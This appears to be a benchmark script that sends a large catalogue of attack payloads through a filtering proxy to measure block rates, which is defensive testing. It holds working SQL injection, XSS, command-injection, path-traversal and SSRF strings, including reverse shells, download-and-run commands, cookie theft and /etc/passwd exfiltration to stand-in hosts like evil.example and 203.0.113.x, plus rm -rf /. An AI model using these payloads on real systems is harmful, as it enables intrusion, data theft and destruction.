# ruff: noqa: RUF001  (look-alike characters are the point of some payloads)
"""Generality probe through the real `bastion proxy`: attack variants and hard legitimate traffic.

A second independent set next to bench/eval_proxy.py (whose gateway, sender and scoring it reuses),
written from what real tooling sends rather than from any corpus the rules were tuned on: sqlmap
tamper styles, XSS filter-evasion vectors, SSRF address tricks, SSTI / LFI / command-injection /
XXE / NoSQL / Log4Shell / prototype-pollution / CRLF payloads, scanner User-Agents and probe
paths. Each payload sits where such payloads arrive in an API: path segments, query names and
values, JSON nested deep and in arrays, form bodies, multipart fields and file names, XML bodies,
GraphQL queries and variables, cookies and the headers attack tools spray (User-Agent, Referer,
X-Forwarded-For, X-Api-Version, custom token headers), with the encodings they use (double URL
encoding, JSON unicode escapes, HTML entities, mixed case, SQL comments, $IFS, backslash-newline,
base64 that the application decodes).

The legitimate half is API traffic that looks dangerous to a careless filter: prose with SQL words
and quotes, code and shell snippets in tickets and markdown, public URLs in webhook/avatar/
callback fields, unicode names, search syntax, JSON Schema `$ref` keys, base64 images, JWTs,
stack traces, rich-text HTML, maths and money.

    .venv/bin/python bench/eval_variants.py [--one-client] [--verbose] [--attacks-first]

Prints the share blocked per class (`benign` is the false-positive share) and, with --verbose,
every attack let through and every legitimate request refused.
"""

from __future__ import annotations

import base64
import json
import urllib.parse
from typing import Any

from eval_proxy import Req, evaluate

JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
XML = {"Content-Type": "application/xml"}
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


def q(v: str) -> str:
    return urllib.parse.quote(v, safe="")


def b64(s: str | bytes) -> str:
    return base64.b64encode(s.encode() if isinstance(s, str) else s).decode()


def get(cls: str, path: str, params: dict[str, str] | None = None, raw: str = "",
        headers: dict[str, str] | None = None) -> Req:
    """A GET; `params` are percent-encoded here, `raw` is a query string sent exactly as written."""
    qs = "&".join(f"{q(k)}={q(v)}" for k, v in (params or {}).items())
    qs = "&".join(p for p in (qs, raw) if p)
    return Req(cls, "GET", f"{path}?{qs}" if qs else path, headers or {})


def js(cls: str, path: str, doc: Any, method: str = "POST", ascii_only: bool = True,
       headers: dict[str, str] | None = None) -> Req:
    return Req(cls, method, path, JSON | (headers or {}), json.dumps(doc, ensure_ascii=ascii_only).encode())


def raw_json(cls: str, path: str, text: str, method: str = "POST") -> Req:
    """A JSON body written by hand (to keep escapes such as \\u0027 exactly as a client sends them)."""
    return Req(cls, method, path, dict(JSON), text.encode())


def form(cls: str, path: str, fields: dict[str, str], method: str = "POST") -> Req:
    return Req(cls, method, path, dict(FORM), urllib.parse.urlencode(fields).encode())


def multipart(cls: str, path: str, parts: list[tuple[str, str | bytes, str | None, str | None]]) -> Req:
    """parts: (field name, content, file name or None, content type or None)."""
    out = b""
    for name, content, filename, ctype in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename is not None else "")
        head = f"--{BOUNDARY}\r\nContent-Disposition: {disp}\r\n"
        if ctype:
            head += f"Content-Type: {ctype}\r\n"
        out += head.encode() + b"\r\n" + (content if isinstance(content, bytes) else content.encode()) + b"\r\n"
    out += f"--{BOUNDARY}--\r\n".encode()
    return Req(cls, "POST", path, {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}, out)


def xml(cls: str, path: str, text: str, ctype: str = "application/xml") -> Req:
    return Req(cls, "POST", path, {"Content-Type": ctype}, text.encode())


def gql(cls: str, query: str, variables: dict[str, Any] | None = None) -> Req:
    doc: dict[str, Any] = {"query": query}
    if variables is not None:
        doc["variables"] = variables
    return js(cls, "/graphql", doc)


def hdr(cls: str, headers: dict[str, str], path: str = "/api/v2/products") -> Req:
    return Req(cls, "GET", path, headers)


def nest(keys: list[str], leaf: Any) -> Any:
    """{"a": {"b": {"c": leaf}}}: a payload as deep as real API documents put their free text."""
    for k in reversed(keys):
        leaf = {k: leaf}
    return leaf


def attack_requests() -> list[Req]:
    r: list[Req] = []

    # --- SQL injection: sqlmap techniques and tamper scripts, classic manual payloads ----------
    s = "sqli"
    r += [
        get(s, "/api/v2/items", raw="id=1%2527%2520OR%25201%253D1--%2520-"),  # double-encoded
        get(s, "/api/v2/items", {"id": "1'/**/AND/**/8412=8412/**/AND/**/'abc'='abc"}),  # space2comment
        get(s, "/api/v2/items", {"id": "1 AND 7712 BETWEEN 7712 AND 7712"}),  # between
        get(s, "/api/v2/items", raw="id=1%20%2555%254E%2549%254F%254E%20%2541%254C%254C%20%2553%2545%254C%2545%2543%2554%20NULL,NULL--"),  # chardoubleencode
        get(s, "/api/v2/items", {"cat": "1 UnIoN SeLeCt 1,2,3-- -"}),  # randomcase
        get(s, "/api/v2/items", {"cat": "1/*!UNION*//*!SELECT*/1,2,3"}),  # versionedkeywords
        get(s, "/api/v2/items", raw="cat=1%27%23%0AUNION%23%0ASELECT%23%0A1,2,3--%20-"),  # space2hash
        get(s, "/api/v2/items", {"id": "1) AND (SELECT 4543 FROM (SELECT(SLEEP(5)))Xbmy) AND (9023=9023"}),
        get(s, "/api/v2/items", {"id": "1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7162767a71,(SELECT (ELT(5321=5321,1))),0x716a6b7a71,0x78))s), 8446744073709551610, 8446744073709551610)))"}),
        get(s, "/api/v2/items", {"id": "1;SELECT PG_SLEEP(5)--"}),
        form(s, "/api/v2/login", {"username": "admin';EXEC xp_cmdshell 'whoami'--", "password": "x"}),
        form(s, "/api/v2/login", {"username": "x' AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)--", "password": "x"}),
        js(s, "/api/v2/search", {"filter": {"where": {"and": [{"name": "x' OR 1=1-- "}, {"active": True}]}}}),
        raw_json(s, "/api/v2/login", '{"user": "admin\\u0027 OR \\u00271\\u0027=\\u00271", "password": "x"}'),
        Req(s, "GET", "/api/v2/products/1%20OR%201=1", {}),
        Req(s, "GET", "/api/v2/products/-1'%20UNION%20SELECT%20username,password%20FROM%20users--%20-/reviews", {}),
        hdr(s, {"Cookie": "TrackingId=xyz' AND SUBSTRING((SELECT password FROM users WHERE username='administrator'),1,1)='a; lang=en"}),
        hdr(s, {"X-Forwarded-For": "127.0.0.1' AND SLEEP(5)-- -"}),
        hdr(s, {"User-Agent": "Mozilla/5.0' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"}),
        get(s, "/api/v2/items", {"sort": "(CASE WHEN (1=1) THEN name ELSE price END)"}),
        get(s, "/api/v2/items", {"sort": "name,(select*from(select(sleep(5)))a)"}),
        gql(s, "query($id: String!) { user(id: $id) { name } }", {"id": "1' or '1'='1"}),
        gql(s, '{ users(filter: "1\' UNION SELECT username,password FROM users--") { id } }'),
        form(s, "/api/v2/subscribe", {"email": "a@b.co'||(SELECT CASE WHEN 1=1 THEN pg_sleep(5) ELSE pg_sleep(0) END)--"}),
        multipart(s, "/api/v2/products", [("title", "Mug", None, None), ("description", "'; DROP TABLE products;--", None, None)]),
        xml(s, "/api/v2/orders", "<order><id>1 UNION SELECT password FROM users</id><qty>1</qty></order>"),
        get(s, "/api/v2/items", {"id": "' UNION SELECT sql,2 FROM sqlite_master--"}),
        get(s, "/api/v2/items", raw="id=1%27%0bor%0b1=1--"),  # vertical tab as a space
        get(s, "/api/v2/items", {"id": "1 AND 0x61646d696e=0x61646d696e"}),
        get(s, "/api/v2/items", raw="id=-1'+UNION+SELECT+1,group_concat(table_name),3+FROM+information_schema.tables+WHERE+table_schema=database()--+-"),
        get(s, "/api/v2/items", {"filter": b64("' OR 1=1--")}),  # the API base64-decodes its filter
        js(s, "/api/v2/reports", {"columns": ["id", "name", "(SELECT password FROM users LIMIT 1)"], "limit": 10}),
        hdr(s, {"X-Api-Version": "1' AND 1=CONVERT(int,(SELECT @@version))--"}),
        # scanner time-based polyglots (Acunetix, Burp) and more tamper styles
        get(s, "/api/v2/items", {"id": "if(now()=sysdate(),sleep(15),0)"}),
        get(s, "/api/v2/items", {"id": "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z"}),
        js(s, "/api/v2/search", {"q": "(select(0)from(select(sleep(15)))v)/*'+(select(0)from(select(sleep(15)))v)+'\"+(select(0)from(select(sleep(15)))v)+\"*/"}),
        get(s, "/api/v2/items", {"id": "-1' OR 2+577-577-1=0+0+0+1 -- "}),
        get(s, "/api/v2/items", {"id": "1 waitfor delay '0:0:15' --"}),
        get(s, "/api/v2/items", {"id": "1*DBMS_PIPE.RECEIVE_MESSAGE(CHR(99)||CHR(99)||CHR(99),15)"}),
        get(s, "/api/v2/items", {"id": "1 AND 9856 LIKE 9856"}),  # equaltolike
        get(s, "/api/v2/items", {"id": "1 AND GREATEST(2564,2563)=2564"}),  # greatest
        get(s, "/api/v2/items", {"id": "1' || 1=1 -- "}),  # symboliclogical
        get(s, "/api/v2/items", raw="id=1%bf%27%20AND%201=1--%20-"),  # unmagicquotes
        get(s, "/api/v2/items", {"id": "1'/*!0UNION/*!0ALL/*!0SELECT/*!0CONCAT(0x7e,user()),2-- -"}),
        get(s, "/api/v2/items", raw="id=1%27%A0UNION%A0SELECT%A01,2--%20-"),
        get(s, "/api/v2/items", {"sort": "1,(SELECT 1 FROM PG_SLEEP(5))"}),
        get(s, "/api/v2/items", {"id": "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -"}),
        get(s, "/api/v2/items", {"id": "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"}),
        get(s, "/api/v2/items", {"id": "(select*from(select(sleep(5)))a)"}),
        get(s, "/api/v2/items", {"id": "1' or '{\"a\":1}' @> '{\"a\":1}'--"}),
        get(s, "/api/v2/items", {"id": "1'||(SELECT 0x4a4a WHERE 1=1 AND SLEEP(5))||'"}),
        get(s, "/api/v2/items", {"id": "1' AND ELT(1=1,SLEEP(5))-- -"}),
        form(s, "/api/v2/login", {"username": "1;DECLARE @q VARCHAR(99);SET @q='\\\\evil.example\\x';EXEC master.dbo.xp_dirtree @q;--", "password": "x"}),
        get(s, "/api/v2/items", {"id": "' AND 1=CAST((SELECT version()) AS int)--"}),
        Req(s, "GET", "/api/v2/users/1'%20AND%20'1'='1/orders", {}),
        hdr(s, {"X-Api-Version": "1 AND SLEEP(5)"}),
        hdr(s, {"Cookie": "session=" + b64("admin' --") + "; theme=dark"}),
        get(s, "/api/v2/items", {"id": "1' AnD 1=1 oRdEr By 1-- -"}),
        get(s, "/api/v2/items", raw="id=1%23abcde%0AUNION%23xyz%0ASELECT%231,2,3"),
        form(s, "/api/v2/login", {"username": "admin'/**/or/**/'1'='1", "password": "x"}),
        get(s, "/api/v2/items", {"id": "'; EXEC('sp_configure ''show advanced options'',1')--"}),
        get(s, "/api/v2/items", {"id": "\uff07 OR 1=1--"}),
    ]

    # --- XSS: filter-evasion vectors ------------------------------------------------------------
    s = "xss"
    r += [
        get(s, "/api/v2/search", {"q": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"}),
        get(s, "/api/v2/search", {"q": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"}),
        js(s, "/api/v2/profile", {"website": '<a href="jav&#x09;ascript:alert(1)">me</a>'}, "PUT"),
        get(s, "/api/v2/search", {"q": '"><img src=x onerror=prompt`1`>'}),
        js(s, "/api/v2/pages", {"body": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'}),
        get(s, "/api/v2/search", {"q": "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"}),
        form(s, "/api/v2/comments", {"text": "<ScRiPt >alert(String.fromCharCode(88,83,83))</sCrIpT>"}),
        form(s, "/api/v2/comments", {"text": "<body onpageshow=alert(1)>"}),
        get(s, "/api/v2/search", {"q": "<marquee onstart=alert(1)>x</marquee>"}),
        get(s, "/api/v2/search", raw="q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        raw_json(s, "/api/v2/profile", '{"bio": "\\u003cimg src=x onerror=alert(1)\\u003e", "name": "x"}', "PATCH"),
        get(s, "/api/v2/search", {"q": "<svg><script>alert&#40;1&#41;</script>"}),
        js(s, "/api/v2/comments", {"post": 7, "text": "<x onclick=alert(1)>click me</x>"}),
        get(s, "/api/v2/widget", {"callback": "'};alert(1);//"}),
        get(s, "/api/v2/widget", {"name": '\\";alert(1);//'}),
        form(s, "/api/v2/comments", {"text": "<form><button formaction=javascript:alert(1)>X</button></form>"}),
        js(s, "/api/v2/pages", {"blocks": [{"type": "html", "html": "<object data=javascript:alert(1)>"}]}),
        js(s, "/api/v2/pages", {"blocks": [{"type": "embed", "html": '<embed src="data:image/svg+xml;base64,' + b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') + '">'}]}),
        get(s, "/api/v2/search", {"q": "<img src=1 oNeRrOr=confirm(document.domain)>"}),
        js(s, "/api/v2/comments", {"text": "Nice post! [click here](javascript:alert(document.cookie))"}),
        get(s, "/api/v2/search", {"q": "{{constructor.constructor('alert(1)')()}}"}),
        get(s, "/api/v2/search", {"q": "<svg/onload=location='//evil.example/?c='+document.cookie>"}),
        hdr(s, {"Referer": 'https://www.google.com/search?q="><svg onload=alert(1)>'}),
        multipart(s, "/api/v2/uploads", [("file", b"\x89PNG\r\n", '"><img src=x onerror=alert(1)>.png', "image/png")]),
        get(s, "/api/v2/search", {"q": "<details/open/ontoggle=top['al'+'ert'](1)>"}),
        get(s, "/api/v2/search", {"q": "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>"}),
        xml(s, "/api/v2/import", '<item><title>x</title><desc><![CDATA[<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>]]></desc></item>'),
        get(s, "/api/v2/search", {"q": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'}),
        get(s, "/api/v2/search", {"q": "&#60;script&#62;alert(1)&#60;/script&#62;"}),
        gql(s, "mutation($c: String!) { addComment(text: $c) { id } }", {"c": "<img src=x onerror=fetch('//evil.example/'+localStorage.token)>"}),
        hdr(s, {"User-Agent": "<script>new Image().src='//evil.example/?'+document.cookie</script>"}),
        Req(s, "GET", "/api/v2/search/%3Csvg%20onload%3Dalert(1)%3E", {}),
        get(s, "/api/v2/search", {"q": "<svg onload=alert&lpar;1&rpar;>"}),
        get(s, "/api/v2/search", {"q": "<img src=x onerror=\\u0061lert(1)>"}),
        get(s, "/api/v2/redirect", {"return_url": '<a href="&#106;avascript:alert(1)">x</a>'}),
        get(s, "/api/v2/redirect", {"return_url": "JaVaScRiPt:alert(document.domain)"}),
        get(s, "/api/v2/redirect", raw="next=java%0d%0ascript%0d%0a:alert(0)"),
        get(s, "/api/v2/redirect", {"next": "data:text/html,<script>alert(1)</script>"}),
        get(s, "/api/v2/search", {"q": "<img/src/onerror=alert(1)>"}),
        get(s, "/api/v2/search", raw="q=%3Csvg%0Aonload%3Dalert(1)%3E"),
        get(s, "/api/v2/search", {"q": "<x contenteditable onblur=alert(1)>lose focus!"}),
        get(s, "/api/v2/search", {"q": '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)"></xss>'}),
        get(s, "/api/v2/search", {"q": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'}),
        get(s, "/api/v2/search", {"q": '" autofocus onfocus="alert(1)'}),
        get(s, "/api/v2/search", {"q": "</script><script>alert(1)</script>"}),
        get(s, "/api/v2/search", {"q": "＜script＞alert(1)＜/script＞"}),
        get(s, "/api/v2/search", {"q": "<a href=javas&#99;ript:alert(1)>x</a>"}),
        get(s, "/api/v2/search", {"q": "<img src=x onerror=window['al'+'ert'](1)>"}),
        get(s, "/api/v2/search", {"q": "<img src=x onerror=$.getScript('//evil.example/x.js')>"}),
        multipart(s, "/api/v2/uploads", [("file", b"\x89PNG\r\n", "%22><svg onload=alert(1)>.png", "image/png")]),
        get(s, "/api/v2/search", {"q": "${alert(document.domain)}"}),
        get(s, "/api/v2/search", {"q": "<svg><animatetransform onbegin=alert(1)>"}),
        get(s, "/api/v2/search", {"q": '<a href="javas&Tab;cript:alert(1)">x</a>'}),
        get(s, "/api/v2/search", {"q": '<iframe/src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'}),
        get(s, "/api/v2/search", {"q": "<img src onerror=alert(1)>"}),
        js(s, "/api/v2/pages", {"html": '<div style="background:url(javascript:alert(1))">x</div>'}),
        get(s, "/api/v2/search", {"q": "<body/onload=alert(1)>"}),
        get(s, "/api/v2/search", {"q": "<audio src/onerror=alert(1)>"}),
        get(s, "/api/v2/search", {"q": "<scr<script>ipt>alert(1)</scr</script>ipt>"}),
        get(s, "/api/v2/search", raw="q=%3Cimg%20src%3Dx%20onerror%3D%26%23x61%3Blert(1)%3E"),
        get(s, "/api/v2/search", {"q": "<svg><discard onbegin=alert(1)>"}),
        gql(s, "mutation($b: String!) { updateBio(bio: $b) { id } }", {"b": "\u003csvg onload=alert(1)\u003e"}),
        get(s, "/api/v2/search", {"q": '<math href="javascript:alert(1)">click</math>'}),
        get(s, "/api/v2/search", {"q": "<input type=image src onerror=alert(1)>"}),
        get(s, "/api/v2/redirect", {"next": "javascript&#58;alert(1)"}),
        get(s, "/api/v2/redirect", {"next": "\u0001javascript:alert(1)"}),
    ]

    # --- OS command injection -------------------------------------------------------------------
    s = "rce"
    r += [
        get(s, "/api/v2/tools/ping", raw="host=127.0.0.1%0aid"),
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1;c\\at /e\\tc/pa\\sswd"}),
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1;ca\\\nt /etc/passwd"}),  # backslash-newline
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1;{cat,/etc/passwd}"}),
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1;cat$IFS/etc/passwd"}),
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1|w'h'o'a'm'i"}),
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1;echo aWQ= | base64 -d | sh"}),
        get(s, "/api/v2/tools/lookup", {"domain": "`nslookup $(whoami).evil.example`"}),
        form(s, "/api/v2/tools/ping", {"host": "8.8.8.8 || curl -d @/etc/passwd http://evil.example"}),
        get(s, "/api/v2/tools/ping", raw="host=%0Acat%20/etc/passwd"),
        get(s, "/api/v2/tools/ping", {"host": "1.1.1.1; /???/??t /???/p??s??"}),
        get(s, "/api/v2/tools/ping", {"host": "x;perl -e 'print `id`'"}),
        form(s, "/api/v2/tools/ping", {"host": "127.0.0.1 & type C:\\Windows\\win.ini"}),
        form(s, "/api/v2/tools/ping", {"host": "127.0.0.1 | powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://evil.example/a')\""}),
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1; sleep 10 #"}),
        js(s, "/api/v2/monitors", {"check": {"type": "ping", "target": "8.8.8.8 && curl http://evil.example/$(id|base64)"}}),
        hdr(s, {"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}),
        multipart(s, "/api/v2/uploads", [("file", b"GIF89a", "x.jpg; wget http://203.0.113.9/s.sh -O- | sh", "image/jpeg")]),
        get(s, "/api/v2/tools/ping", {"host": "${PATH:0:1}bin${PATH:0:1}id"}),
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1;cat\t/etc/passwd"}),
        get(s, "/api/v2/tools/ping", raw="host=127.0.0.1%26%26whoami"),
        js(s, "/api/v2/monitors/bulk", {"hosts": ["example.com", "example.org;nc 203.0.113.7 4444 -e /bin/sh"]}),
        get(s, "/api/v2/tools/convert", {"file": "a.png\"; rm -rf / #"}),
        form(s, "/api/v2/tools/ping", {"host": "127.0.0.1;cat${IFS%??}/etc/passwd"}),
        get(s, "/api/v2/tools/ping", {"host": "$(curl -s http://evil.example/p.sh|bash)"}),
        js(s, "/api/v2/tools/git", {"repo": "https://github.com/x/y.git --upload-pack='touch /tmp/pwned'"}),
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1 ; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4242));pty.spawn(\"sh\")'"}),
        js(s, "/api/v2/tools/ping", {"host": "127.0.0.1\nwhoami"}),
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1;cat${HOME:0:1}etc${HOME:0:1}passwd"}),
        get(s, "/api/v2/tools/ping", {"host": "$(echo${IFS}aWQ=|base64${IFS}-d)"}),
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1;/bin/ca? /et?/pa??wd"}),
        form(s, "/api/v2/tools/ping", {"host": "127.0.0.1 | ping -n 10 127.0.0.1"}),
        get(s, "/api/v2/tools/ping", {"host": ";{echo,aWQ=}|{base64,-d}|bash"}),
        get(s, "/api/v2/tools/ping", {"host": "|| wget -qO- http://evil.example/x | sh"}),
        get(s, "/api/v2/tools/ping", {"host": "; awk 'BEGIN {system(\"id\")}'"}),
        get(s, "/api/v2/tools/ping", {"host": "'; find / -name '*.conf' -exec cat {} \\; #"}),
        get(s, "/api/v2/tools/ping", {"host": "; php -r 'system(\"id\");'"}),
        form(s, "/api/v2/tools/ping", {"host": "127.0.0.1 & net user hacker P@ss123 /add"}),
        form(s, "/api/v2/tools/ping", {"host": "127.0.0.1 | certutil -urlcache -split -f http://evil.example/a.exe a.exe"}),
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1 & ver"}),
        get(s, "/api/v2/tools/ping", {"host": "$(</etc/passwd)"}),
        get(s, "/api/v2/tools/lookup", {"domain": "example.com;ssh -o ProxyCommand='sh -c id' x"}),
        js(s, "/api/v2/tools/archive", {"args": "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"}),
        get(s, "/api/v2/tools/curl", {"opts": "-o /var/www/html/shell.php http://evil.example/s.txt"}),
        get(s, "/api/v2/tools/ping", {"host": "127.0.0.1;cat</etc/passwd"}),
        get(s, "/api/v2/tools/ping", raw="host=%0Aid%0A"),
        get(s, "/api/v2/tools/ping", {"host": "$(sleep${IFS}5)"}),
        get(s, "/api/v2/tools/ping", {"host": "a|/usr/bin/id"}),
        get(s, "/api/v2/tools/ping", {"host": ";l\\s -la"}),
        get(s, "/api/v2/tools/ping", {"host": "`ping -c 5 127.0.0.1`"}),
        get(s, "/api/v2/tools/ping", {"host": "|nslookup x.evil.example"}),
        get(s, "/api/v2/tools/ping", {"host": "&&curl${IFS}evil.example|sh"}),
        get(s, "/api/v2/tools/ping", {"host": ";echo${IFS}$((7*7))"}),
        get(s, "/api/v2/tools/ping", {"host": "x||sleep 5||"}),
        form(s, "/api/v2/tools/ping", {"host": "127.0.0.1 | type %SYSTEMROOT%\\win.ini"}),
        form(s, "/api/v2/tools/ping", {"host": "127.0.0.1 & dir c:\\ &"}),
        get(s, "/api/v2/tools/ping", {"host": ";/???/n? -e /???/b??h 203.0.113.5 4444"}),
        get(s, "/api/v2/tools/ping", {"host": ";$'\\x63\\x61\\x74' /etc/passwd"}),
        get(s, "/api/v2/tools/ping", {"host": ";e\"c\"h\"o\" pwned > /var/www/html/p.txt"}),
    ]

    # --- path traversal and local file inclusion ------------------------------------------------
    s = "traversal"
    r += [
        Req(s, "GET", "/static/..%252f..%252f..%252fetc/passwd", {}),
        get(s, "/api/v2/files", {"name": "....\\/....\\/....\\/etc/passwd"}),
        get(s, "/api/v2/files", raw="name=%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
        get(s, "/api/v2/files", raw="name=..%c1%9c..%c1%9c..%c1%9cboot.ini"),
        get(s, "/api/v2/files", raw="name=..%u2215..%u2215..%u2215etc%u2215passwd"),
        get(s, "/api/v2/render", {"template": "/etc/passwd"}),
        get(s, "/api/v2/render", {"template": "pHp://FilTer/convert.base64-encode/resource=/etc/passwd"}),
        get(s, "/api/v2/i18n", raw="lang=../../../../../../proc/self/environ%00"),
        js(s, "/api/v2/tickets", {"ticket": {"attachment": {"path": "../../../../root/.ssh/id_rsa"}}}),
        multipart(s, "/api/v2/uploads", [("file", b"<?php echo 1; ?>", "../../../../var/www/html/shell.php", "application/octet-stream")]),
        xml(s, "/api/v2/import", "<doc><file>../../../etc/shadow</file></doc>"),
        Req(s, "GET", "/api/v2/files/..%2f..%2f..%2fetc%2fpasswd", {}),
        get(s, "/api/v2/files", {"name": "C:\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"}),
        get(s, "/api/v2/render", {"page": "zip://uploads/avatar.jpg#shell.php"}),
        get(s, "/api/v2/render", {"page": "expect://id"}),
        hdr(s, {"Cookie": "lang=../../../../etc/passwd; theme=dark"}),
        Req(s, "GET", "/api/v1/..;/..;/admin/users", {}),
        get(s, "/api/v2/render", {"page": "data://text/plain;base64," + b64("<?php system($_GET['c']); ?>")}),
        Req(s, "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", {}),
        get(s, "/api/v2/files", {"name": "/var/www/../../etc/passwd"}),
        get(s, "/api/v2/download", {"file": "..%2F..%2F..%2F..%2Fetc%2Fpasswd"}),
        js(s, "/api/v2/export", {"format": "csv", "output": "/proc/self/cwd/config/database.yml"}),
        get(s, "/api/v2/files", {"name": "..././..././..././etc/passwd"}),
        Req(s, "GET", "/api/v2/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", {}),
        get(s, "/api/v2/files", raw="name=..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam"),
        get(s, "/api/v2/files", {"name": "/var/www/images/../../../etc/passwd"}),
        get(s, "/api/v2/files", raw="name=/etc/passwd%2500.jpg"),
        Req(s, "GET", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", {}),
        get(s, "/api/v2/files", {"name": "/proc/self/fd/3"}),
        get(s, "/api/v2/render", {"page": "../../WEB-INF/web.xml"}),
        get(s, "/api/v2/files", {"name": "/./././././././etc/passwd"}),
        get(s, "/api/v2/files", {"name": "C:/Windows/System32/drivers/etc/hosts"}),
        get(s, "/api/v2/files", {"name": "/etc/shadow"}),
        get(s, "/api/v2/files", {"name": "....//....//....//etc//passwd"}),
        get(s, "/api/v2/files", raw="name=/%5C../%5C../%5C../etc/passwd"),
        get(s, "/api/v2/files", raw="name=..%252e%252f..%252e%252fetc/passwd"),
        get(s, "/api/v2/files", {"name": "file:///C:/Windows/win.ini"}),
        get(s, "/api/v2/files", {"name": "\\\\localhost\\c$\\windows\\win.ini"}),
        get(s, "/api/v2/render", {"page": "php://input"}),
        get(s, "/api/v2/render", {"page": "phar://uploads/x.jpg/test"}),
        get(s, "/api/v2/files", {"name": "/proc/self/cwd/index.php"}),
        get(s, "/api/v2/files", {"name": ".%2e/.%2e/.%2e/etc/passwd"}),
        get(s, "/api/v2/files", {"name": "..\\/..\\/..\\/etc/passwd"}),
        Req(s, "GET", "/api/v2/files/..%5c..%5c..%5cwindows/win.ini", {}),
    ]

    # --- SSRF -------------------------------------------------------------------------------------
    s = "ssrf"
    r += [
        get(s, "/api/v2/fetch", {"url": "http://[::ffff:169.254.169.254]/latest/meta-data/"}),
        get(s, "/api/v2/fetch", {"url": "http://0177.0.0.1/"}),
        get(s, "/api/v2/fetch", {"url": "http://127.1/admin"}),
        get(s, "/api/v2/fetch", {"url": "http://0/"}),
        js(s, "/api/v2/webhooks", {"url": "http://localtest.me:8080/", "events": ["order.created"]}),
        get(s, "/api/v2/fetch", {"url": "http://evil.example@127.0.0.1/"}),
        get(s, "/api/v2/fetch", {"url": "http://①②⑦.⓪.⓪.①/"}),
        js(s, "/api/v2/profile", {"avatar_url": "http://[0:0:0:0:0:ffff:127.0.0.1]/"}, "PATCH"),
        js(s, "/api/v2/integrations", nest(["config", "webhook", "url"], "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")),
        get(s, "/api/v2/fetch", raw="url=gopher%3A%2F%2F127.0.0.1%3A6379%2F_%252A1%250D%250A%25248%250D%250Aflushall"),
        get(s, "/api/v2/fetch", {"url": "file:///proc/self/cmdline"}),
        get(s, "/api/v2/fetch", {"url": "http://customer1.app.localhost/"}),
        hdr(s, {"X-Callback-Url": "http://10.0.0.1/admin"}),
        get(s, "/api/v2/fetch", {"url": "http://0x7f.0x0.0x0.0x1/"}),
        get(s, "/api/v2/fetch", {"url": "http://2852039166/latest/meta-data/"}),
        get(s, "/api/v2/fetch", {"url": "http://100.100.100.200/latest/meta-data/"}),
        get(s, "/api/v2/fetch", {"url": "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"}),
        get(s, "/api/v2/fetch", {"url": "jar:http://evil.example!/"}),
        get(s, "/api/v2/fetch", {"url": "ldap://127.0.0.1:389/"}),
        form(s, "/api/v2/import", {"source": "http://192.168.0.1:8080/manager/html"}),
        get(s, "/api/v2/fetch", {"url": "http://[fd00:ec2::254]/latest/meta-data/"}),
        multipart(s, "/api/v2/import", [("source_url", "http://169.254.169.254/latest/user-data", None, None)]),
        gql(s, "mutation($u: String!) { importFromUrl(url: $u) { id } }", {"u": "http://127.0.0.1:2375/containers/json"}),
        get(s, "/api/v2/fetch", {"url": "http://169.254.169.254%2Flatest%2Fmeta-data%2F"}),
        get(s, "/api/v2/fetch", {"url": "http://[::]:22/"}),
        get(s, "/api/v2/fetch", {"url": "http://017700000001/"}),
        get(s, "/api/v2/fetch", {"url": "http://127.000.000.001/"}),
        get(s, "/api/v2/fetch", {"url": "http://[::ffff:7f00:1]/"}),
        get(s, "/api/v2/fetch", {"url": "http://[::ffff:a9fe:a9fe]/latest/meta-data/"}),
        get(s, "/api/v2/fetch", {"url": "http://0251.0376.0251.0376/"}),
        get(s, "/api/v2/fetch", {"url": "//127.0.0.1/admin"}),
